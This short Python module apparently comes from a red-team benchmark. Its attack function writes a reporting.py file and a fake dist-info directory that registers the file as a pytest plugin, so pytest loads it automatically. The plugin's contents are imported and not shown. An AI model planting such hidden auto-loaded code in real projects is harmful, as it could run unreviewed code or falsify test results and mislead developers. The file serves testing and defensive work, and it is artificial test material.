"""A dist-info directory in the tree, which is on the path, declares a pytest plugin."""

from bench.redteam.pieces import CONFTEST
from bench.redteam.view import View


def attack(view: View) -> None:
    view.write("reporting.py", CONFTEST)
    view.write("reporting-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: reporting\n")
    view.write("reporting-1.0.dist-info/entry_points.txt", "[pytest11]\nreporting = reporting\n")
